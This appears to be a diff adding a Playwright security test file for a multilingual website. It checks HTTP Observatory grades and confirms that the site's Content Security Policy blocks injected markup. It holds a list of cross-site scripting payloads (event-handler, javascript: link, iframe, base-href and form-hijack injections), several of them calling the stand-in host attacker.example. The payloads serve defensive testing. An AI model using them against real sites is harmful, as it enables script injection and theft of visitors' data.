@@ -1,0 +1,147 @@
+/** What the site sends protects its visitors, and what somebody might bring into a page does nothing. */
+import type { Page } from "@playwright/test";
+import { localeCodes, localeOf } from "../src/site/locales";
+import { allPages, inLocale, pathTo } from "../src/site/paths";
+import { routes } from "../src/site/routes";
+import { bestGrade, checks, type Seen, scoreOf } from "./site/observatory";
+import { expect, open, test } from "./site/test";
+
+/** What stands in a page as it is served. */
+function seenIn(html: string, headers: Readonly<Record<string, string>>): Seen {
+  const all = (pattern: RegExp) => Array.from(html.matchAll(pattern), ([, found = ""]) => found);
+  return {
+    headers,
+    metaPolicies: all(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/gu),
+    scripts: all(/<script[^>]* src="([^"]*)"/gu),
+  };
+}
+
+for (const locale of localeCodes) {
+  test(`in ${localeOf(locale).name} every page passes every check of the HTTP Observatory, with its best grade`, async ({
+    request,
+  }) => {
+    const paths = allPages().flatMap((page) => (page.locale === locale ? [page.path] : []));
+    for (const path of [...paths, inLocale("/no-such-page", locale)]) {
+      const answer = await request.get(path);
+      const html = await answer.text();
+      const seen = seenIn(html, answer.headers());
+      const scores = Object.entries(checks).map(([name, check]) => ({ name, score: check(seen) }));
+      expect(
+        scores.filter(({ score }) => score < 0),
+        path,
+      ).toEqual([]);
+      expect(scoreOf(scores.map(({ score }) => score)), path).toBeGreaterThanOrEqual(bestGrade);
+      expect(seen.metaPolicies, path).toHaveLength(1);
+      expect(seen.metaPolicies[0], path).not.toMatch(/unsafe|\*/u);
+      expect(html.indexOf("Content-Security-Policy"), "before anything that could load").toBeLessThan(
+        html.search(/<(?:script|style|link)/u),
+      );
+    }
+  });
+}
+
+declare global {
+  interface Window {
+    /** Set by a script that should never have run. */
+    hacked?: string;
+  }
+}
+
+const elsewhere = "https://attacker.example";
+
+/** Ways in which markup that came into a page could act, each setting `hacked` or asking another host. */
+const attacks = [
+  `<script>window.hacked="script"</script>`,
+  `<script src="${elsewhere}/x.js"></script>`,
+  `<script type="module">window.hacked="module"</script>`,
+  `<script src="data:text/javascript,window.hacked='data'"></script>`,
+  `<img src="/no-such-picture.png" onerror="window.hacked='onerror'">`,
+  `<img src="${elsewhere}/pixel.png">`,
+  `<svg onload="window.hacked='svg'"><script>window.hacked="svg script"</script></svg>`,
+  `<iframe srcdoc="<script>parent.hacked='frame'</script>"></iframe>`,
+  `<iframe src="${elsewhere}/frame"></iframe>`,
+  `<object data="${elsewhere}/x.swf"></object><embed src="${elsewhere}/x.swf">`,
+  `<link rel="stylesheet" href="${elsewhere}/x.css">`,
+  `<style>@import "${elsewhere}/x.css"; body { background: url(${elsewhere}/bg.png) }</style>`,
+  `<base href="${elsewhere}/">`,
+  `<video src="${elsewhere}/x.mp4"></video>`,
+  `<details open ontoggle="window.hacked='toggle'">x</details>`,
+  `<input autofocus onfocus="window.hacked='focus'">`,
+  `<form id="stolen" action="${elsewhere}/form"><button>x</button></form>`,
+  `<a id="lure" href="javascript:window.hacked='link'">x</a>`,
+].join("");
+
+/** Opens a page into which markup has come at several places, as if the build had let it through. */
+async function openAttacked(page: Page, path: string): Promise<string[]> {
+  const asked: string[] = [];
+  page.on("request", (request) => {
+    if (request.url().startsWith(elsewhere)) asked.push(request.url());
+  });
+  await page.route(path, async (route) => {
+    const answer = await route.fetch();
+    const html = await answer.text();
+    const places = [/(<title[^>]*>[^<]*<\/title>)/u, /(<main[^>]*>)/u, /(<h1[^>]*>)/u, /(<\/main>)/u];
+    const body = places.reduce((text, place) => text.replace(place, (found) => found + attacks), html);
+    expect(body.split(attacks).length, "the markup came in").toBeGreaterThanOrEqual(4);
+    await route.fulfill({ response: answer, body });
+  });
+  await page.goto(path);
+  await page.waitForLoadState("load");
+  return asked;
+}
+
+test.describe("markup that comes into a page", () => {
+  // The browser tells of everything that it refuses.
+  test.use({ expectedFaults: /./u });
+
+  for (const { id } of routes.filter(
+    ({ template }, at, all) => all.findIndex((one) => one.template === template) === at,
+  )) {
+    test(`does nothing on the page ${id}`, async ({ page }) => {
+      const asked = await openAttacked(page, pathTo(id, "hi"));
+      await page.evaluate(() => document.querySelector<HTMLAnchorElement>("#lure")?.click());
+      await page.evaluate(() => document.querySelector<HTMLFormElement>("#stolen")?.requestSubmit());
+      expect(await page.evaluate(() => window.hacked)).toBeUndefined();
+      expect(new URL(page.url()).pathname).toBe(pathTo(id, "hi"));
+      expect(asked).toEqual([]);
+    });
+  }
+
+  test("cannot be made of a string by the page's own scripts either", async ({ page }) => {
+    await open(page, pathTo("rti", "en"));
+    const refused = await page.evaluate(() => {
+      const attempts: Record<string, () => unknown> = {
+        innerHTML: () => {
+          document.body.innerHTML += "<img src=x onerror=\"window.hacked='html'\">";
+        },
+        script: () => {
+          const script = document.createElement("script");
+          script.src = "https://attacker.example/x.js";
+          document.head.append(script);
+        },
+        // biome-ignore lint/security/noGlobalEval: that it cannot be done is what is tested.
+        eval: () => window.eval("window.hacked='eval'"),
+        function: () => new Function("window.hacked='function'")(),
+        timer: () => window.setTimeout("window.hacked='timer'"),
+        worker: () => new Worker("https://attacker.example/x.js"),
+      };
+      return Object.entries(attempts).flatMap(([name, attempt]) => {
+        try {
+          attempt();
+          return [];
+        } catch {
+          return [name];
+        }
+      });
+    });
+    expect(refused).toEqual(["innerHTML", "script", "eval", "function", "timer", "worker"]);
+    expect(await page.evaluate(() => window.hacked)).toBeUndefined();
+  });
+});
+
+test("nothing is stored but the reader's own settings", async ({ page, context }) => {
+  for (const path of [pathTo("home", "en"), pathTo("schools", "hi"), pathTo("search", "sa")]) await open(page, path);
+  expect((await context.storageState()).cookies).toEqual([]);
+  const kept = await page.evaluate(() => Object.keys(localStorage));
+  expect(kept.filter((name) => !["reading", "language", "search-key"].includes(name))).toEqual([]);
+});
